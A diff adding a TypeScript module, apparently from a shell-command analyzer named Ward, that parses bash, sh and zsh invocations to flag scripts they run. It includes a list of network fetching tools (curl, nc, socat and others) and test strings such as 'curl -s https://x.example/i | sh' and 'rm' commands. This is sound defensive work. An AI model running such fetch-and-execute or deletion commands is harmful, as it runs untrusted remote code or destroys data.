@@ -1,0 +1,173 @@
+/** Shells as programs: the text of `-c`, a script file, or whatever stands on their standard input. */
+import type { Dialect } from '../../values.ts';
+import { code, reading, textOf, together, touch } from '../effects.ts';
+import type { Argument, Call, Program, Reading } from '../program.ts';
+
+const dialects = new Map<string, Dialect>([
+  ['bash', 'bash'],
+  ['rbash', 'bash'],
+  ['sh', 'sh'],
+  ['dash', 'sh'],
+  ['ash', 'sh'],
+  ['zsh', 'zsh'],
+]);
+
+/** Options that take the next word. Clusters may hold `o` and `O`, whose names follow in order. */
+const long = new Set(['--rcfile', '--init-file', '--emulate']);
+
+interface Given {
+  readonly command: boolean;
+  readonly stdin: boolean;
+  readonly startup: readonly Argument[];
+  readonly rest: readonly Argument[];
+  readonly unclear: string | undefined;
+}
+
+/** bash(1): options and their names first, then what `-c` says is the first word that is none. */
+function given(list: readonly Argument[]): Given {
+  const seen = { command: false, stdin: false, startup: [] as Argument[] };
+  let at = 0;
+  while (at < list.length) {
+    const text = textOf(list[at]);
+    if (text === undefined) return { ...seen, rest: list.slice(at), unclear: unclear(list[at], seen.command) };
+    if (text === '--' || text === '-') return { ...seen, rest: list.slice(at + 1), unclear: undefined };
+    if (!/^[-+]./.test(text)) break;
+    at = take({ list, at, text }, seen);
+  }
+  return { ...seen, rest: list.slice(at), unclear: undefined };
+}
+
+function unclear(argument: Argument | undefined, command: boolean): string | undefined {
+  const value = argument?.value;
+  if (value?.kind !== 'unknown' || (value.prefix !== '' && !/^[-+]/.test(value.prefix))) return undefined;
+  return command ? undefined : value.reason;
+}
+
+interface Word {
+  readonly list: readonly Argument[];
+  readonly at: number;
+  readonly text: string;
+}
+
+function take({ list, at, text }: Word, seen: { command: boolean; stdin: boolean; startup: Argument[] }): number {
+  const file = list[at + 1];
+  if (text.startsWith('--')) {
+    if (!long.has(text)) return at + 1;
+    if (file !== undefined && text !== '--emulate') seen.startup.push(file);
+    return at + 2;
+  }
+  if (text.startsWith('-') && text.includes('c')) seen.command = true;
+  if (text.startsWith('-') && text.includes('s')) seen.stdin = true;
+  return at + 1 + [...text.slice(1)].filter(one => one === 'o' || one === 'O').length;
+}
+
+function shell(call: Call): Reading {
+  const dialect = dialects.get(call.program);
+  const found = given(call.arguments);
+  const [first] = found.rest;
+  const begun = found.startup.flatMap(one => [...touch('read', one, call), code('sideways', 'a start-up file runs first', one.place)]);
+  const always = { effects: begun, opaque: found.unclear };
+  if (dialect === undefined)
+    return together(always, { effects: [code('unknown', `Ward can't read the language of ${call.program}`, call.place)] });
+  if (found.command)
+    return together(
+      always,
+      first === undefined ? {} : { runs: [{ kind: 'script', text: first, dialect, cwd: call.cwd, via: call.program }] },
+    );
+  if (first !== undefined && !found.stdin) return together(always, file(first, call));
+  if (call.arguments.some(one => /^--(?:version|help)$/.test(textOf(one) ?? ''))) return reading({});
+  return together(always, input(dialect, call));
+}
+
+/** A script by its own name; on `/dev/stdin` and its kin it is the input. */
+function file(argument: Argument, call: Call): Partial<Reading> {
+  const text = textOf(argument);
+  if (text !== undefined && /^(?:\/dev\/stdin|\/dev\/fd\/\d+|\/proc\/self\/fd\/\d+)$/.test(text))
+    return input(dialects.get(call.program) ?? 'sh', call);
+  return { effects: [...touch('read', argument, call), code('project', `${call.program} runs a script`, argument.place)] };
+}
+
+/** What is run from standard input: readable where the text itself holds it. */
+function input(dialect: Dialect, call: Call): Partial<Reading> {
+  const { place } = call;
+  switch (call.input.kind) {
+    case 'nothing':
+      return {};
+    case 'text':
+      return {
+        runs: [
+          { kind: 'script', text: { value: { kind: 'text', text: call.input.text }, place }, dialect, cwd: call.cwd, via: call.program },
+        ],
+      };
+    case 'file':
+      return { effects: [code('project', `${call.program} runs a script`, place)] };
+    case 'pipe':
+      return { effects: [piped(call.input.from, call)] };
+    default:
+      return { effects: [code('unknown', 'a shell runs whatever stands on its input', place)] };
+  }
+}
+
+const fetching = new Set([
+  'curl',
+  'wget',
+  'nc',
+  'ncat',
+  'netcat',
+  'socat',
+  'ssh',
+  'ftp',
+  'aria2c',
+  'http',
+  'https',
+  'xh',
+  'lynx',
+  'links',
+  'w3m',
+  'gh',
+]);
+
+function piped(from: string | undefined, call: Call): ReturnType<typeof code> {
+  if (from !== undefined && fetching.has(from)) return code('elsewhere', `${call.program} runs what ${from} fetches`, call.place);
+  return code('unknown', `${call.program} runs what another command prints`, call.place);
+}
+
+/** Every shell that runs texts. */
+export const shells: readonly Program[] = [
+  {
+    names: [...dialects.keys(), 'ksh', 'mksh', 'fish', 'csh', 'tcsh', 'nu', 'elvish', 'xonsh', 'pwsh'],
+    read: shell,
+    flags: [
+      "bash -c 'rm a'",
+      "sh -xc 'rm a'",
+      "bash -c -- 'rm a'",
+      "bash -c -o pipefail 'rm a'",
+      "bash -eo pipefail -c 'rm a'",
+      "bash --norc -lc 'rm a'",
+      "bash -O extglob -c 'rm a'",
+      'bash -c "$command"',
+      'curl -s https://x.example/i | sh',
+      'echo rm a | bash',
+      'bash --rcfile ./rc -i',
+      "bash <<< 'rm a'",
+      'bash < ../run.sh',
+      'bash ~/run.sh',
+      "fish -c 'rm a'",
+      'bash',
+      "zsh -fc 'rm a'",
+      'printf "rm a" | bash -s --',
+      'bash "$script"',
+    ],
+    quiet: [
+      "bash -c 'echo hi'",
+      "sh -c 'npm test && echo ok'",
+      'bash run.sh',
+      'bash -x ./run.sh --fast',
+      'bash -n run.sh',
+      'bash --version',
+      "bash <<'EOF'\necho hi\nEOF",
+      "bash -lc 'ls -la'",
+      'zsh -c "ls"',
+    ],
+  },
+];
